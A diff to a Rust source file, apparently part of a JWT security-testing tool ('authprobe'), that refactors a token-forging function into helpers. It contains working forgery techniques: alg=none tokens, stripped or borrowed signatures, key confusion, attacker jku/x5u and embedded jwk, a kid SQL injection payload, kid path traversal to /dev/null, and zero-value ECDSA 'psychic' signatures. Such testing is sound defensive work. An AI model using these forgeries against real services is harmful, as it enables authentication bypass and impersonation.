@@ -191,157 +191,37 @@ pub fn forge(
     ctx: &ForgeContext,
 ) -> Result<Vec<Forged>, ForgeError> {
     let c = Compact::parse(original)?;
-    let mut out: Vec<(String, String)> = Vec::new();
-    match kind {
-        ForgeryKind::NoneAlgorithm => {
-            for none in ["none", "None", "NONE", "nOnE"] {
-                let h = with(&c.header, &[("alg", json!(none))]).to_b64();
-                out.push((
-                    format!("alg={none}, trailing dot"),
-                    format!("{h}.{}.", c.payload_b64),
-                ));
-                out.push((
-                    format!("alg={none}, no trailing dot"),
-                    format!("{h}.{}", c.payload_b64),
-                ));
-            }
-        }
+    let out = match kind {
+        ForgeryKind::NoneAlgorithm => none_algorithm(&c),
         ForgeryKind::MissingSignature => {
-            out.push(("no signature segment".into(), c.signing_input()));
+            vec![("no signature segment".into(), c.signing_input())]
         }
-        ForgeryKind::EmptySignature => {
-            out.push((
-                "empty signature segment".into(),
-                format!("{}.", c.signing_input()),
-            ));
-        }
-        ForgeryKind::TruncatedSignature => {
-            let s = c.signature(original)?;
-            if !s.is_empty() {
-                let last = &s[..s.len() - 1];
-                let half = &s[..s.len() / 2];
-                out.push((
-                    "last byte removed".into(),
-                    format!("{}.{}", c.signing_input(), b64(last)),
-                ));
-                out.push((
-                    "half the bytes".into(),
-                    format!("{}.{}", c.signing_input(), b64(half)),
-                ));
-            }
-        }
-        ForgeryKind::ForeignSignature => {
-            if let Some(other) = ctx.other_token {
-                let o = Compact::parse(other)?;
-                out.push((
-                    "signature of the other token".into(),
-                    format!("{}.{}", c.signing_input(), o.signature_b64),
-                ));
-            }
-        }
-        ForgeryKind::ModifiedPayload => {
-            let payload = c.payload(original)?;
-            let changed = if payload.get("sub").is_some() {
-                "sub changed to \"authprobe-attacker\", original signature"
-            } else {
-                "claim authprobe=1 added, original signature"
-            };
-            let t = modify_claims(original, |m| {
-                if m.contains_key("sub") {
-                    m.insert("sub".into(), json!("authprobe-attacker"));
-                } else {
-                    m.insert("authprobe".into(), json!(1));
-                }
-            })?;
-            out.push((changed.into(), t));
-            let mut raw = token::unb64(c.payload_b64).unwrap_or_default();
-            raw.push(b' ');
-            out.push((
-                "payload JSON with a trailing space, original signature".into(),
-                format!("{}.{}.{}", c.header_b64, b64(&raw), c.signature_b64),
-            ));
-        }
+        ForgeryKind::EmptySignature => vec![(
+            "empty signature segment".into(),
+            format!("{}.", c.signing_input()),
+        )],
+        ForgeryKind::TruncatedSignature => truncated_signature(&c, original)?,
+        ForgeryKind::ForeignSignature => foreign_signature(&c, ctx)?,
+        ForgeryKind::ModifiedPayload => modified_payload(&c, original)?,
         ForgeryKind::ModifiedHeader => {
             let h = with(&c.header, &[("authprobe", json!(1))]).to_b64();
-            out.push((
+            vec![(
                 "header member authprobe=1 added, original signature".into(),
                 format!("{h}.{}.{}", c.payload_b64, c.signature_b64),
-            ));
+            )]
         }
-        ForgeryKind::SymmetryConfusion => symmetry_confusion(&c, ctx, &mut out),
-        ForgeryKind::AttackerProvidedEmbeddedJwk => {
-            let h = with(
-                &c.header,
-                &[
-                    ("alg", json!("ES256")),
-                    ("jwk", ctx.attacker.public_jwk().key.to_jwk_json()),
-                ],
-            );
-            let t = sign_compact(
-                "ES256",
-                &h.to_b64(),
-                c.payload_b64,
-                &ctx.attacker.signing_key(),
-            )?;
-            out.push(("ES256, attacker public key in header jwk".into(), t));
-        }
-        ForgeryKind::AttackerProvidedJku | ForgeryKind::AttackerProvidedX5u => {
-            if let Some(url) = ctx.attacker_jwks_url {
-                let member = if kind == ForgeryKind::AttackerProvidedJku {
-                    "jku"
-                } else {
-                    "x5u"
-                };
-                let h = with(
-                    &c.header,
-                    &[
-                        ("alg", json!("ES256")),
-                        (member, json!(url.as_str())),
-                        ("kid", json!(ATTACKER_KID)),
-                    ],
-                );
-                let t = sign_compact(
-                    "ES256",
-                    &h.to_b64(),
-                    c.payload_b64,
-                    &ctx.attacker.signing_key(),
-                )?;
-                out.push((format!("ES256, {member} points at the attacker JWKS"), t));
-            }
-        }
-        ForgeryKind::KidPathTraversal => {
-            for kid in [
-                "../../../../../../../../dev/null",
-                "/dev/null",
-                "....//....//dev/null",
-            ] {
-                let t = hs256_with_kid(&c, kid, b"")?;
-                out.push((format!("HS256 with an empty key, kid={kid}"), t));
-            }
-        }
+        ForgeryKind::SymmetryConfusion => symmetry_confusion(&c, ctx),
+        ForgeryKind::AttackerProvidedEmbeddedJwk => embedded_jwk(&c, ctx)?,
+        ForgeryKind::AttackerProvidedJku => attacker_key_url(&c, ctx, "jku")?,
+        ForgeryKind::AttackerProvidedX5u => attacker_key_url(&c, ctx, "x5u")?,
+        ForgeryKind::KidPathTraversal => kid_path_traversal(&c)?,
         ForgeryKind::KidSqlInjection => {
             let kid = "x' UNION SELECT 'authprobe'-- ";
             let t = hs256_with_kid(&c, kid, b"authprobe")?;
-            out.push((format!("HS256 with key \"authprobe\", kid={kid}"), t));
+            vec![(format!("HS256 with key \"authprobe\", kid={kid}"), t)]
         }
-        ForgeryKind::PsychicSignature => {
-            let curves: &[Curve] = match c.alg() {
-                Some("ES256") => &[Curve::P256],
-                Some("ES384") => &[Curve::P384],
-                Some("ES512") => &[Curve::P521],
-                _ => &[Curve::P256, Curve::P384, Curve::P521],
-            };
-            for curve in curves {
-                let alg = curve.jws_alg();
-                let zeros = vec![0u8; 2 * curve.coordinate_len()];
-                let h = with(&c.header, &[("alg", json!(alg))]).to_b64();
-                out.push((
-                    format!("{alg} with r = s = 0 ({} zero bytes)", zeros.len()),
-                    format!("{h}.{}.{}", c.payload_b64, b64(&zeros)),
-                ));
-            }
-        }
-    }
+        ForgeryKind::PsychicSignature => psychic_signature(&c),
+    };
     let mut seen = std::collections::HashSet::new();
     Ok(out
         .into_iter()
@@ -352,6 +232,172 @@ pub fn forge(
             token,
         })
         .collect())
+}
+
+/// Forged tokens as (variant, token), before duplicates and the original are dropped.
+type Variants = Vec<(String, String)>;
+
+/// [`ForgeryKind::NoneAlgorithm`]: four spellings of `none`, with and without the trailing dot.
+fn none_algorithm(c: &Compact<'_>) -> Variants {
+    let mut out = Vec::new();
+    for none in ["none", "None", "NONE", "nOnE"] {
+        let h = with(&c.header, &[("alg", json!(none))]).to_b64();
+        out.push((
+            format!("alg={none}, trailing dot"),
+            format!("{h}.{}.", c.payload_b64),
+        ));
+        out.push((
+            format!("alg={none}, no trailing dot"),
+            format!("{h}.{}", c.payload_b64),
+        ));
+    }
+    out
+}
+
+/// [`ForgeryKind::TruncatedSignature`]: the last byte removed, and half the bytes.
+fn truncated_signature(c: &Compact<'_>, original: &str) -> Result<Variants, ForgeError> {
+    let s = c.signature(original)?;
+    if s.is_empty() {
+        return Ok(Vec::new());
+    }
+    let last = &s[..s.len() - 1];
+    let half = &s[..s.len() / 2];
+    Ok(vec![
+        (
+            "last byte removed".into(),
+            format!("{}.{}", c.signing_input(), b64(last)),
+        ),
+        (
+            "half the bytes".into(),
+            format!("{}.{}", c.signing_input(), b64(half)),
+        ),
+    ])
+}
+
+/// [`ForgeryKind::ForeignSignature`]: the other token's signature on this token.
+fn foreign_signature(c: &Compact<'_>, ctx: &ForgeContext) -> Result<Variants, ForgeError> {
+    let Some(other) = ctx.other_token else {
+        return Ok(Vec::new());
+    };
+    let o = Compact::parse(other)?;
+    Ok(vec![(
+        "signature of the other token".into(),
+        format!("{}.{}", c.signing_input(), o.signature_b64),
+    )])
+}
+
+/// [`ForgeryKind::ModifiedPayload`]: a claim changed (or added), and the payload JSON with a
+/// trailing space, both under the original signature.
+fn modified_payload(c: &Compact<'_>, original: &str) -> Result<Variants, ForgeError> {
+    let payload = c.payload(original)?;
+    let changed = if payload.get("sub").is_some() {
+        "sub changed to \"authprobe-attacker\", original signature"
+    } else {
+        "claim authprobe=1 added, original signature"
+    };
+    let t = modify_claims(original, |m| {
+        if m.contains_key("sub") {
+            m.insert("sub".into(), json!("authprobe-attacker"));
+        } else {
+            m.insert("authprobe".into(), json!(1));
+        }
+    })?;
+    let mut raw = token::unb64(c.payload_b64).unwrap_or_default();
+    raw.push(b' ');
+    Ok(vec![
+        (changed.into(), t),
+        (
+            "payload JSON with a trailing space, original signature".into(),
+            format!("{}.{}.{}", c.header_b64, b64(&raw), c.signature_b64),
+        ),
+    ])
+}
+
+/// [`ForgeryKind::AttackerProvidedEmbeddedJwk`]: ES256 signed by the attacker, whose public
+/// key rides in the header's `jwk`.
+fn embedded_jwk(c: &Compact<'_>, ctx: &ForgeContext) -> Result<Variants, ForgeError> {
+    let h = with(
+        &c.header,
+        &[
+            ("alg", json!("ES256")),
+            ("jwk", ctx.attacker.public_jwk().key.to_jwk_json()),
+        ],
+    );
+    let t = sign_compact(
+        "ES256",
+        &h.to_b64(),
+        c.payload_b64,
+        &ctx.attacker.signing_key(),
+    )?;
+    Ok(vec![("ES256, attacker public key in header jwk".into(), t)])
+}
+
+/// [`ForgeryKind::AttackerProvidedJku`] (`member` = `jku`) and
+/// [`ForgeryKind::AttackerProvidedX5u`] (`x5u`): ES256 signed by the attacker, the header
+/// member pointing at the attacker JWKS. Nothing without a URL.
+fn attacker_key_url(
+    c: &Compact<'_>,
+    ctx: &ForgeContext,
+    member: &str,
+) -> Result<Variants, ForgeError> {
+    let Some(url) = ctx.attacker_jwks_url else {
+        return Ok(Vec::new());
+    };
+    let h = with(
+        &c.header,
+        &[
+            ("alg", json!("ES256")),
+            (member, json!(url.as_str())),
+            ("kid", json!(ATTACKER_KID)),
+        ],
+    );
+    let t = sign_compact(
+        "ES256",
+        &h.to_b64(),
+        c.payload_b64,
+        &ctx.attacker.signing_key(),
+    )?;
+    Ok(vec![(
+        format!("ES256, {member} points at the attacker JWKS"),
+        t,
+    )])
+}
+
+/// [`ForgeryKind::KidPathTraversal`]: HS256 with an empty key, `kid` walking to `/dev/null`.
+fn kid_path_traversal(c: &Compact<'_>) -> Result<Variants, ForgeError> {
+    let mut out = Vec::new();
+    for kid in [
+        "../../../../../../../../dev/null",
+        "/dev/null",
+        "....//....//dev/null",
+    ] {
+        let t = hs256_with_kid(c, kid, b"")?;
+        out.push((format!("HS256 with an empty key, kid={kid}"), t));
+    }
+    Ok(out)
+}
+
+/// [`ForgeryKind::PsychicSignature`]: `r = s = 0` for the token's curve (every curve when
+/// the token is not ECDSA).
+fn psychic_signature(c: &Compact<'_>) -> Variants {
+    let curves: &[Curve] = match c.alg() {
+        Some("ES256") => &[Curve::P256],
+        Some("ES384") => &[Curve::P384],
+        Some("ES512") => &[Curve::P521],
+        _ => &[Curve::P256, Curve::P384, Curve::P521],
+    };
+    curves
+        .iter()
+        .map(|curve| {
+            let alg = curve.jws_alg();
+            let zeros = vec![0u8; 2 * curve.coordinate_len()];
+            let h = with(&c.header, &[("alg", json!(alg))]).to_b64();
+            (
+                format!("{alg} with r = s = 0 ({} zero bytes)", zeros.len()),
+                format!("{h}.{}.{}", c.payload_b64, b64(&zeros)),
+            )
+        })
+        .collect()
 }
 
 /// A copy of `header` with the given members set (replaced in place, or appended).
@@ -373,12 +419,15 @@ fn hs256_with_kid(c: &Compact<'_>, kid: &str, key: &[u8]) -> Result<String, Forg
     )
 }
 
-fn symmetry_confusion(c: &Compact<'_>, ctx: &ForgeContext, out: &mut Vec<(String, String)>) {
+/// [`ForgeryKind::SymmetryConfusion`]: for an asymmetric token, HS* signatures keyed with
+/// each serialisation of the public key named by `kid` (every key when none matches).
+fn symmetry_confusion(c: &Compact<'_>, ctx: &ForgeContext) -> Variants {
+    let mut out = Vec::new();
     let asymmetric = c
         .alg()
         .is_some_and(|a| a == "EdDSA" || ["RS", "PS", "ES"].iter().any(|p| a.starts_with(p)));
     if !asymmetric || ctx.public_keys.is_empty() {
-        return;
+        return out;
     }
     let kid = c.header.get_str("kid");
     let matching: Vec<&keys::Jwk> = ctx
@@ -419,6 +468,7 @@ fn symmetry_confusion(c: &Compact<'_>, ctx: &ForgeContext, out: &mut Vec<(String
             }
         }
     }
+    out
 }
 
 /// ModifiedPayload primitive: `original` with its claims edited by `edit`, the original header
